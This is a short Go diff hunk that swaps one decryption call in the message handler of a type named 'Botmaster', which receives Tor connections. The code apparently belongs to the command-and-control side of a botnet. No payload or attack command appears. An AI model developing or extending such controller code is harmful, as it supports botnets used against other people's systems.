@@ -213,7 +213,7 @@ func (m *Botmaster) onInboundConn(conn *tor.Conn) {
 }
 
 func (m *Botmaster) onMessage(conn *tor.Conn, raw []byte) {
-	plain, err := m.netSeal.Open(raw)
+	plain, err := m.netSeal.OpenView(raw)
 	if err != nil {
 		return
 	}
